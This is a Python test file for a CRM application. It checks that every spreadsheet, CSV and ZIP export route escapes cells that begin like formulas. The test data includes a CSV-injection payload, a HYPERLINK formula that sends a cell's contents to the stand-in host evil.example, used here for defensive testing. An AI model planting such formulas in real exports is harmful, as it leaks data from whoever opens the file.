"""Every spreadsheet export neutralises cells a spreadsheet would run as a formula.

Export routes are found from the app: any route that declares a CSV or ZIP answer. Each must
have a case here, so a new export cannot skip the check.
"""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from api.bootstrap.wiring import Services
from api.services.spreadsheet import FORMULA_STARTS, XLSX_MEDIA_TYPE, safe_cell
from crm.application.imports import Importer, ImportRequest, import_file
from crm.application.users import Role
from projections.engine.runner import wait_until_caught_up
from tests.api.web_client import new_user, page_csrf, sign_in
from tests.factories import RoleHeaders, provenance, record, register, unique
from tests.pages import endpoints

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def cells_of(response_content: bytes, content_type: str) -> list[str]:
    """Every text cell of an answer: a CSV (comma or semicolon, with or without a byte-order
    mark), every CSV inside a ZIP, or every sheet of a workbook."""
    if content_type == XLSX_MEDIA_TYPE:
        book = openpyxl.load_workbook(io.BytesIO(response_content), read_only=True)
        return [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows(values_only=True)
            for cell in row
            if isinstance(cell, str)
        ]
    if "zip" in content_type:
        with zipfile.ZipFile(io.BytesIO(response_content)) as bundle:
            texts = [bundle.read(n).decode() for n in bundle.namelist() if n.endswith(".csv")]
    else:
        texts = [response_content.decode("utf-8-sig")]
    cells = []
    for text in texts:
        delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
        cells += [
            cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row
        ]
    return cells


def export_routes(app: FastAPI) -> set[tuple[str, str]]:
    found = set()
    for method, path, route in endpoints(app):
        kinds = {
            kind for answer in route.responses.values() for kind in (answer.get("content") or {})
        }
        if kinds & {"text/csv", "application/zip", XLSX_MEDIA_TYPE}:
            found.add((method, path))
    return found


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell("Matti " + value) == "Matti " + value
    assert safe_cell(-1) == -1


def test_every_export_route_neutralises_formula_cells(
    app: FastAPI, services: Services, as_role: RoleHeaders
) -> None:
    sector = unique("sector")
    now = datetime.now(UTC)
    customer = register(services.crm, name=HOSTILE_NAME, sector=sector, at=now - timedelta(days=2))
    record(
        services.crm, customer, now - timedelta(hours=1), "consent_given", notes=None,
        purpose="email_marketing", lawful_basis="consent", evidence="@form",
    )  # fmt: skip
    # An invoice whose number would be a formula, dated on a day of its own.
    invoice_day = date(1980, 1, 1) + timedelta(days=uuid.uuid4().int % 3000)
    record(
        services.crm, customer, now - timedelta(hours=1), "purchase_made", notes=None,
        purchase_id="-p", offering="@offer", offering_type="coaching", amount=Decimal(10),
        invoice_reference=None,
    )  # fmt: skip
    services.crm.invoice_purchase(
        customer, provenance(now), purchase_id="-p", invoice_number="=1+1",
        invoice_date=invoice_day, due_date=invoice_day, amount=Decimal(10),
    )  # fmt: skip
    # A completion whose course would be a formula, by a person on an organisation's staff.
    record(
        services.crm, customer, now - timedelta(minutes=50), "course_completed", notes=None,
        course="=course", credits=Decimal(5), grade="+5",
    )  # fmt: skip
    employer = register(services.crm, "organisation", at=now - timedelta(days=2))
    services.crm.start_affiliation(customer, provenance(now - timedelta(days=1)), employer, None)
    wait_until_caught_up(services.projector, services.views.refresh())
    api = TestClient(app)
    marketing, dpo = as_role[Role.MARKETING], as_role[Role.DPO]
    segment = api.post(
        "/segments", json={"name": unique("hostile"), "rule": {"sector": sector}}, headers=marketing
    ).json()
    api.get(f"/customers/{customer}", params={"reason": "-read"}, headers=as_role[Role.DPO])
    marketer = sign_in(app, new_user(services, Role.MARKETING))
    officer = sign_in(app, new_user(services, Role.DPO))
    # A column named like a formula whose value holds a NUL: its row error names the column.
    hostile_file = (
        f"kind,email,occurred_at,{HOSTILE_NAME.replace(',', ';')}\n"
        f"call_made,x-{unique('e')}@example.fi,2025-01-01T10:00:00+02:00,a\0b\n"
    ).encode()
    hostile_import, _ = import_file(
        Importer(services.crm, services.import_log),
        io.BytesIO(hostile_file),
        ImportRequest(unique("hostile"), "test", "native"),
    )
    assert hostile_import.invalid == 1
    manager = sign_in(app, new_user(services, Role.ACCOUNT_MANAGER))
    segment_path = {"segment_id": segment["segment_id"], "import_id": hostile_import.import_id}
    accountant = sign_in(app, new_user(services, Role.FINANCE))
    period = {"start": str(invoice_day), "end": str(invoice_day)}

    cases: dict[tuple[str, str], list[Callable[[], tuple[bytes, str]]]] = {}

    def case(method: str, path: str, client: TestClient, **kwargs: object) -> None:
        def call() -> tuple[bytes, str]:
            url = path.format(customer_id=customer, **segment_path)
            response = client.request(method, url, **kwargs)  # type: ignore[arg-type]
            assert response.status_code == 200, (path, response.text)
            return response.content, response.headers["content-type"]

        cases.setdefault((method, path), []).append(call)

    case("POST", "/segments/{segment_id}/exports", api,
         json={"purpose": "email_marketing"}, headers=marketing)  # fmt: skip
    for layout in ("contacts", "audience"):
        case("POST", "/segments/{segment_id}/exports", api,
             json={"purpose": "email_marketing", "layout": layout, "format": "xlsx"},
             headers=marketing)  # fmt: skip
        case("POST", "/segments/{segment_id}/exports", api,
             json={"purpose": "email_marketing", "layout": layout, "delimiter": ";",
                   "byte_order_mark": True}, headers=marketing)  # fmt: skip
    for file in ("excel_csv", "xlsx", "audience_csv"):
        case("POST", "/ui/segments/{segment_id}/export", marketer,
             data={"purpose": "email_marketing", "file": file,
                   "csrf_token": page_csrf(marketer)})  # fmt: skip
    case("GET", "/privacy/exports/{customer_id}", api, params={"format": "csv"}, headers=dpo)
    case("GET", "/privacy/access-log", api,
         params={"customer": str(customer), "format": "csv"}, headers=dpo)  # fmt: skip
    case("GET", "/ui/privacy/access-log", officer,
         params={"customer": str(customer), "format": "csv"})  # fmt: skip
    case("GET", "/privacy/consent-audit.csv", api, headers=dpo)
    case("GET", "/ui/imports/{import_id}/errors.csv", manager)
    case("GET", "/finance/export.csv", api, params=period, headers=as_role[Role.FINANCE])
    case("GET", "/ui/finance/export.csv", accountant, params=period)
    am = as_role[Role.ACCOUNT_MANAGER]
    case("GET", "/completions/transcript.csv", api, params={"person": str(customer)}, headers=am)
    case("GET", "/completions/staff-report.csv", api, params={"organisation": str(employer)},
         headers=am)  # fmt: skip
    case("GET", "/ui/completions/report.csv", manager, params={"person": str(customer)})

    assert export_routes(app) == set(cases), "give every export route a case here"
    for (method, path), calls in cases.items():
        for call in calls:
            content, content_type = call()
            cells = cells_of(content, content_type)
            assert cells, f"{method} {path} returned no cells"
            assert not [c for c in cells if c.startswith(FORMULA_STARTS)], f"{method} {path}"
            if "segment" in path or "finance" in path:
                assert "'" + HOSTILE_NAME in cells, f"{method} {path}"
            if "finance" in path:
                assert "'=1+1" in cells, f"{method} {path}"
            if "completions" in path:
                assert {"'=course", "'+5", "'" + HOSTILE_NAME} <= set(cells), f"{method} {path}"
    marketer.close()
    officer.close()
    accountant.close()
    manager.close()
